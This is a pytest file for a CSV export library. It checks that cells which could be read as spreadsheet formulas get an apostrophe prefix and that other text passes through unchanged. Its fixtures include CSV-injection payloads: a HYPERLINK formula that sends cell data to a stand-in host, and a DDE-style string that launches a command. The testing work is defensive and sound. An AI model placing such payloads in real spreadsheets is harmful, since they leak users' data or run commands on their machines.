from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

import pytest
from frictionless import Package

from scripts.render.csv_tables import BETWEEN_TERMS, CsvWriter, Row, Table, cell, harmless
from scripts.render.data import practice_record
from scripts.render.datapackage import render_datapackage
from scripts.render.tables import FINDINGS, PRACTICES, SOURCES, TABLES
from tests.derive.invented import collect, entry, finding
from tests.render.view import SETTINGS, toys
from tests.toy import schemas, vocabularies

HARMLESS_BUT_GUARDED = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "plus": "+44 20 7946 0000",
    "minus": "-5 points on the scale",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after blanks": "   =1+1",
    "formula after a no-break space": "\u00a0=1+1",
    "formula after a zero-width space": "\u200b=1+1",
    "formula after a mark for right-to-left": "\u202e=1+1",
    "formula after a control character": "\x0b=1+1",
    "full-width formula": "＝1+1",
    "full-width at": "＠SUM(1)",
    "tab": "\t=1+1",
    "tab before a word": "\tword",
    "carriage return": "\r=1+1",
    "line break first": "\nSecond line",
    "apostrophe of its own": "'t Hart method",
    "apostrophe before a formula": "'=1+1",
}

AS_IT_IS = {
    "plain": "Fewer teapots were broken.",
    "sign later on": "Costs fell: -5%",
    "comma": "bread, butter",
    "semicolon": "bread; butter",
    "quotation marks": 'called "Kotitori" by all',
    "quotation mark first": '"Kotitori", they say',
    "line break inside": "first line\nsecond line",
    "carriage return inside": "first line\r\nsecond line",
    "right-to-left": "בית חם לכולם",
    "beyond the basic plane": "🫖 for all",
    "combining letters": "Te\u0301kanna",
    "en dash first": "–5 points",
    "number": "17",
    "bracket": '["a"]',
    "control character inside": "tea\x0bpot\x1b",
}


def render_csv(table: Table, records: Iterable[Row]) -> str:
    file = io.StringIO(newline="")
    writer = CsvWriter(file, table)
    for record in records:
        writer.write(record)
    return file.getvalue()


def unguarded(text: str) -> str:
    """What the page on open data tells a reader to do."""
    return text.removeprefix("'")


def rows(text: str) -> list[dict[str, str]]:
    """The rows of a table, read by the standard library."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("name", HARMLESS_BUT_GUARDED)
def test_a_text_that_a_spreadsheet_could_compute_gets_an_apostrophe(name: str) -> None:
    text = HARMLESS_BUT_GUARDED[name]
    assert harmless(text) == f"'{text}"
    assert unguarded(harmless(text)) == text


@pytest.mark.parametrize("name", AS_IT_IS)
def test_any_other_text_stays_as_it_is(name: str) -> None:
    assert harmless(AS_IT_IS[name]) == AS_IT_IS[name]
    assert unguarded(harmless(AS_IT_IS[name])) == AS_IT_IS[name]


def test_no_two_texts_become_the_same_cell() -> None:
    texts = {*HARMLESS_BUT_GUARDED.values(), *AS_IT_IS.values()}
    assert len({harmless(text) for text in texts}) == len(texts)


def test_cells_of_each_kind() -> None:
    assert cell(None, "string") == ""
    assert [cell(value, "boolean") for value in (True, False)] == ["true", "false"]
    assert [cell(value, "number") for value in (-3.7, 0, 1.5)] == ["-3.7", "0", "1.5"]
    assert cell(["health", "housing"], "terms") == "health;housing"
    assert json.loads(cell(["a; b", '=1"', "é"], "array")) == ["a; b", '=1"', "é"]
    assert cell(["=1+1"], "array").startswith("[")


def test_no_term_holds_what_stands_between_terms() -> None:
    assert not [term for terms in vocabularies().values() for term in terms if BETWEEN_TERMS in term]


def hostile_records() -> list[Mapping[str, Any]]:
    """A practice whose every text is odd."""
    texts = [*HARMLESS_BUT_GUARDED.values(), *AS_IT_IS.values()]
    collection = collect(
        [
            entry(
                name=texts[0],
                lead=texts[1],
                summary=texts[-5],
                partners=texts,
                findings=[finding(statement=text, note=text) for text in texts],
                sources={
                    f"lamp-{2000 + number}": {"type": "news", "title": text, "authors": [text, text]}
                    for number, text in enumerate(texts)
                },
            )
        ]
    )
    return [practice_record(practice, collection, SETTINGS) for practice in collection.practices]


def test_odd_texts_come_through_the_tables_intact() -> None:
    (record,) = hostile_records()
    (practice,) = rows(render_csv(PRACTICES, [record]))
    assert [unguarded(practice[field]) for field in ("name", "lead", "summary")] == [
        record[field] for field in ("name", "lead", "summary")
    ]
    assert json.loads(practice["partners"]) == record["partners"]
    findings = rows(render_csv(FINDINGS, [record]))
    assert [unguarded(row["statement"]) for row in findings] == [item["statement"] for item in record["findings"]]
    sources = rows(render_csv(SOURCES, [record]))
    assert [unguarded(row["title"]) for row in sources] == [item["title"] for item in record["sources"].values()]
    assert [json.loads(row["authors"]) for row in sources] == [item["authors"] for item in record["sources"].values()]


def test_no_cell_of_the_tables_begins_like_a_formula() -> None:
    for table in TABLES:
        for row in rows(render_csv(table, hostile_records())):
            for text in row.values():
                assert text.lstrip()[:1] not in {*"=+-@＝＋－＠"}
                assert text[:1] not in {*"\t\r\n"}


def test_lines_end_as_the_standard_says_and_begin_with_the_headings() -> None:
    records = [practice_record(practice, toys(), SETTINGS) for practice in toys().practices]
    for table in TABLES:
        text = render_csv(table, records)
        assert text.split("\r\n")[0] == ",".join(column.name for column in table.columns)
        assert text.endswith("\r\n")
        assert len(rows(text)) == sum(len(list(table.rows(record))) for record in records)


def test_frictionless_reads_odd_texts_as_they_were(tmp_path: Path) -> None:
    (record,) = hostile_records()
    for table in TABLES:
        (tmp_path / f"{table.name}.csv").write_bytes(render_csv(table, [record]).encode())
    package = tmp_path / "datapackage.json"
    package.write_text(render_datapackage(toys(), schemas(), SETTINGS), encoding="utf-8")
    read = {table.name: Package(str(package)).get_table_resource(table.name).read_rows() for table in TABLES}
    assert [unguarded(row["statement"]) for row in read["findings"]] == [
        item["statement"] for item in record["findings"]
    ]
    assert read["practices"][0]["partners"] == record["partners"]
    assert [row["authors"] for row in read["sources"]] == [item["authors"] for item in record["sources"].values()]
